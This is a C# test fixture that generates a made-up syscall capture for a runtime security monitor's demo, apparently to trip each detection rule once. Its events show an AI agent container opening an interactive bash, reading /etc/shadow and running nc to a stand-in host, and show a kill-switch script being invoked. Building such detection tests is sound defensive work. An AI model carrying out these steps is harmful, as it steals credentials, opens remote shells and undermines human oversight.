using System.Text;
using KosmosProbe.Engine.Tests.Captures.Scap;
using static KosmosProbe.Engine.Tests.Captures.Scap.ScapBytes;

namespace KosmosProbe.Engine.Tests.Captures;

/// <summary>
/// Makes the capture that <c>make demo</c> replays: a node with an agent, an MCP server and an ordinary user, a few
/// seconds of what they do, and each KOSMOS rule broken once. Everything in it is made up.
/// </summary>
internal static class DemoCapture
{
    private const uint MachineBlock = 0x201;
    private const uint ThreadsBlock = 0x215;
    private const uint UsersBlock = 0x220;
    private const uint EventBlock = 0x216;

    private const ushort SocketCode = 19;
    private const ushort ConnectCode = 23;
    private const ushort ProcexitCode = 186;
    private const ushort ExecveCode = 293;
    private const ushort OpenatCode = 307;
    private const ushort ContainerCode = 324;

    private const byte FamilyV4 = 2;
    private const uint OpenRead = 1;
    private const long WorkingDirectory = -100;
    private const long NoEntry = -2;
    private const uint NobodyId = 65534;

    // A round date; events are a tenth of a second apart.
    private const ulong FirstTimeNs = 1_767_261_600_000_000_000;
    private const ulong StepNs = 100_000_000;
    private const ulong UptimeNs = 3_600_000_000_000;

    private const string PodUid = "11111111_2222_3333_4444_555555555555";

    private static readonly byte[] PodAddress = [10, 42, 0, 9];

    private static readonly Box Host = new("", "", "");
    private static readonly Box Zeus = new("3f1a9c2b7d4e", "zeus", "registry.local/kosmos/zeus");
    private static readonly Box Gateway = new("5d0e7a1c9b3f", "gateway", "registry.local/mcp-gateway");

    /// <summary>The capture, always the same.</summary>
    public static byte[] Bytes()
    {
        var script = new Script();
        script.Describe(Zeus);
        script.Describe(Gateway);

        // What they do every day.
        script.Connect(2000, [10, 43, 0, 20], 443);
        script.Open(2000, "/app/config.json");
        script.Exec(3002, 3000, Gateway, "git", "/usr/bin/git", 0, "status");
        script.Exec(1002, 1000, Host, "ls", "/usr/bin/ls", 1000, "-l");

        // What rules are for.
        script.Exec(2002, 2000, Zeus, "bash", "/bin/bash", 0, "-i");
        script.Open(2002, "/etc/shadow");
        script.Exec(2003, 2002, Zeus, "nc", "/usr/bin/nc", 0, "203.0.113.10", "8081");
        script.Connect(2003, [203, 0, 113, 10], 8081);
        script.Exec(3003, 3001, Gateway, "psql", "/usr/bin/psql", 0, "-h", "10.43.0.20");
        script.Connect(3003, [10, 43, 0, 20], 5432);
        script.Exec(1003, 1000, Host, "sh", "/bin/sh", NobodyId, "/opt/kosmos/kill-switch.sh");
        script.Exec(1004, 1000, Host, "true", "/usr/bin/true", 0, "emergency-halt");

        // What comes near.
        script.Exec(1005, 1000, Host, "killswitch", "/bin/killswitch", NobodyId);
        script.Open(2002, "/etc/hostname");
        script.End(2003);
        script.End(2002);
        return script.ToArray();
    }

    private static byte[] Head(IEnumerable<byte[]> threads)
    {
        byte[] name = new byte[128];
        "kosmos-demo"u8.CopyTo(name);
        return Begun()
            .Block(MachineBlock, Part(2u, 8ul << 30, 32768ul, name, FirstTimeNs - UptimeNs, 0ul, 0ul, 0ul))
            .Block(ThreadsBlock, [.. threads])
            .Block(
                UsersBlock,
                Sized((byte)0, 0u, 0u, "root", "/root", "/bin/bash"),
                Sized((byte)0, 1000u, 1000u, "ada", "/home/ada", "/bin/bash"),
                Sized((byte)0, NobodyId, NobodyId, "nobody", "/", "/usr/sbin/nologin"))
            .ToArray();
    }

    private static byte[] Thread(long tid, long parent, Box box, string comm, string path, uint uid) => Sized(
        tid, tid, parent, tid, tid, comm, path, path, "", "/", 1024L, 0u, uid, uid, 0u, 0u, 0u, 0ul, 0ul, "",
        tid, tid, box.Cgroups, "/", 0ul, 0u, uid, (byte)0, 0ul, 0ul, 0ul, (byte)0, 0ul, 0ul, 0ul, (byte)0, (byte)0,
        tid);

    private sealed record Box(string Id, string Name, string Image)
    {
        public string FullId => Id + string.Concat(Enumerable.Repeat("0", 64 - Id.Length));

        public string Cgroups => Id.Length == 0
            ? "cpu=/user.slice\0"
            : $"cpu=/kubepods.slice/kubepods-pod{PodUid}.slice/cri-containerd-{FullId}.scope\0";

        public string Json =>
            $$$"""
            {"container":{"type":7,"id":"{{{Id}}}","full_id":"{{{FullId}}}","name":"{{{Name}}}",
            "image":"{{{Image}}}:1.0","imagerepo":"{{{Image}}}","imagetag":"1.0",
            "ip":"10.42.0.9","is_pod_sandbox":false,"privileged":false,
            "labels":{"io.kubernetes.pod.name":"{{{Name}}}-0","io.kubernetes.pod.namespace":"kosmos"},"Mounts":[]}}
            """;
    }

    private sealed class Script
    {
        private readonly List<byte> _events = [];
        private readonly List<byte[]> _threads =
        [
            Thread(1, 0, Host, "systemd", "/usr/lib/systemd/systemd", 0),
            Thread(1000, 1, Host, "bash", "/bin/bash", 1000),
            Thread(2000, 1, Zeus, "node", "/usr/local/bin/node", 0),
            Thread(3000, 1, Gateway, "node", "/usr/local/bin/node", 0),
            Thread(3001, 3000, Gateway, "sh", "/bin/sh", 0),
        ];

        private ulong _timeNs = FirstTimeNs;

        public byte[] ToArray() => [.. Head(_threads), .. _events];

        public void Describe(Box box)
        {
            byte[] json = Text(box.Json.ReplaceLineEndings(""));
            Write(ContainerCode, 1, Part((uint)json.Length), json);
        }

        // The thread of the program that is about to run has forked already.
        public void Exec(long tid, long parent, Box box, string comm, string path, uint uid, params string[] arguments)
        {
            _threads.Add(Thread(tid, parent, box, "sh", "/bin/sh", uid));
            Event(
                ExecveCode, tid, Part(0L), Text(path),
                Encoding.UTF8.GetBytes(string.Concat(arguments.Select(argument => argument + "\0"))),
                Part(tid), Part(tid), Part(parent), Text("/"), Part(1024ul), Part(0ul), Part(0ul), Part(0u), Part(0u),
                Part(0u), Text(comm), Encoding.UTF8.GetBytes(box.Cgroups), [], Part(0u), Part(tid), Part(uid), Part(0u),
                Part(0ul), Part(0ul), Part(0ul), Part((ulong)tid), Part(FirstTimeNs - StepNs),
                Part(FirstTimeNs - StepNs), Part(uid), Text(path), Part(tid), Part(uid), Text(path));
        }

        public void Open(long tid, string path) => Event(
            OpenatCode, tid, Part(7L), Part(WorkingDirectory), Text(path), Part(OpenRead), Part(0u), Part(0x801u),
            Part(4711ul));

        public void Connect(long tid, byte[] address, ushort port)
        {
            byte[] tuple = Part(FamilyV4, PodAddress, (ushort)40000, address, port);
            Event(SocketCode, tid, Part(9L), Part((uint)FamilyV4), Part(1u), Part(6u));
            Event(ConnectCode, tid, Part(0L), tuple, Part(9L), Part(FamilyV4, address, port));
        }

        public void End(long tid) =>
            Event(ProcexitCode, tid, Part(0L), Part(NoEntry), Part((byte)0), Part((byte)0), Part(1L));

        private void Event(ushort code, long tid, params byte[][] parameters) => Write(
            code,
            tid,
            Part([.. parameters.Select(parameter => (object)(ushort)parameter.Length)]),
            Part([.. parameters.Cast<object>()]),
            (uint)parameters.Length);

        private void Write(ushort code, long tid, byte[] lengths, byte[] parameters, uint count = 1)
        {
            const int FixedBytes = 26;
            uint length = (uint)(FixedBytes + lengths.Length + parameters.Length);
            var block = new ScapBytes().Block(
                EventBlock, Part((ushort)0, _timeNs, tid, length, code, count, lengths, parameters));
            _events.AddRange(block.ToArray());
            _timeNs += StepNs;
        }
    }
}
